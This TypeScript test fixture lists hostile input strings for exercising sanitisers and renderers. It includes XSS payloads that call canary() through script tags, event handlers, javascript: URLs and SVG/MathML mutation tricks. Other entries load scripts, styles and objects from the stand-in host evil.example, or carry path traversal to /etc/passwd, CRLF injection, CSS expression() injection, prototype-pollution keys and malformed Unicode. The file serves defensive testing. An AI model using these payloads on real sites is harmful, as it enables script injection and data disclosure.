/**
 * Texts that attack whoever takes them for markup, an address, a style, a name or a format. Those that could run something
 * call `canary()`, and those that could ask for something ask `evil.example`.
 */
export const HOSTILE: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    '<script>canary()</script>',
    '\'-->"></title></style></textarea><script>canary()</script>',
    '<SCRIPT SRC=//evil.example/a.js></SCRIPT>',
    '</script><script>canary()//',
    '<scr<script>ipt>canary()</scr</script>ipt>',
    '`${canary()}`',
    '{{constructor.constructor("canary()")()}}<%= canary() %>',
  ],
  handlers: [
    '"><img src=//evil.example/a.png onerror="canary()">',
    '" onmouseover="canary()" autofocus onfocus="canary()" x="',
    "' onclick='canary()' style='position:fixed;inset:0",
    '<details open ontoggle=canary()><summary>x</summary></details><input autofocus onfocus=canary()>',
    '<video><source onerror="canary()"></video>',
    '<p onpointerover=canary() tabindex=1 id=x>x</p>',
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="canary()">x</b>',
  ],
  elements: [
    '<iframe srcdoc="<script>parent.canary()</script>"></iframe><iframe src="javascript:parent.canary()"></iframe>',
    '<object data="https://evil.example/a.svg"></object><embed src="https://evil.example/b">',
    '<link rel="stylesheet" href="https://evil.example/a.css"><meta http-equiv="refresh" content="0;url=javascript:canary()">',
    '<base href="https://evil.example/"><a href="/x">x</a>',
    '<form action="javascript:canary()"><input name="attributes"><input name="childNodes"><button>x</button></form>',
    '<template shadowrootmode="open"><script>canary()</script></template>',
    '<story-timeline src="https://evil.example/a.json"></story-timeline>',
  ],
  addresses: [
    'javascript:canary()',
    ' \u0001java\tscr\nipt:canary()',
    'JaVaScRiPt://%0acanary()',
    'data:text/html,<script>canary()</script>',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="canary()"/>',
    'blob:https://evil.example/0',
    'file:///etc/passwd',
    'http://[::1',
    '<a href="javascript:canary()">x</a><a href="&#106;avascript&colon;canary()">y</a>',
  ],
  'other namespaces': [
    '<svg onload=canary()><script>canary()</script></svg>',
    '<svg><animate onbegin=canary() attributeName=x dur=1s></svg>',
    '<svg><a xlink:href="javascript:canary()"><text y="9">x</text></a></svg>',
    '<svg><use href="https://evil.example/a.svg#x"></use><image href="https://evil.example/b.png"/></svg>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:canary()">x</maction></math>',
  ],
  mutations: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=canary()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
    '<noscript><p title="</noscript><img src=x onerror=canary()>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=canary()>">',
    '<a><b></a><i></b><table><td><a><img/onerror=canary()/src=x>',
    '&lt;img src=x onerror=canary()&gt;&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;',
  ],
  names: ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'then', 'undefined', 'NaN'],
  selectors: ['"] , * , [x="', 'a\\', '#details .x > y', 'details'],
  styles: [
    'red;background:url(https://evil.example/a.png)',
    'url("//evil.example/b.png")',
    '</style><style>@import "//evil.example/c.css";*{display:none}',
    '}*{background:url(//evil.example/d.png);width:expression(canary())}',
  ],
  formats: [
    '{0} {count} {value} {detail} %s %n %x',
    '{count, plural, one {#} other {{',
    "$& $` $' $1 $<x>",
    '%00%0d%0aX: y',
    '../../../etc/passwd',
  ],
  characters: [
    'a\u0000b\u0001c\u001bd\u007fe',
    '\ud800',
    'x\udfff\ud83d',
    '\u202egnihtyna\u202d \u2066x\u2067y',
    '\u2028\u2029\ufeff\u200b\u200d\u00ad',
    '\uffff\ufffe\u{10ffff}\ue000\ufdfd\u{12219}',
    `z\u0300\u0301\u0302\u0315\u031b\u0489${'\u0336\u0353\u035b'.repeat(40)}`,
    '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u{1f3ff}\u{e0067}\u{1f1e8}',
  ],
  lengths: ['x'.repeat(20_000), 'word '.repeat(4_000), '<b>'.repeat(2_000), '1'.repeat(400)],
};

export const ALL_HOSTILE = Object.values(HOSTILE).flat();
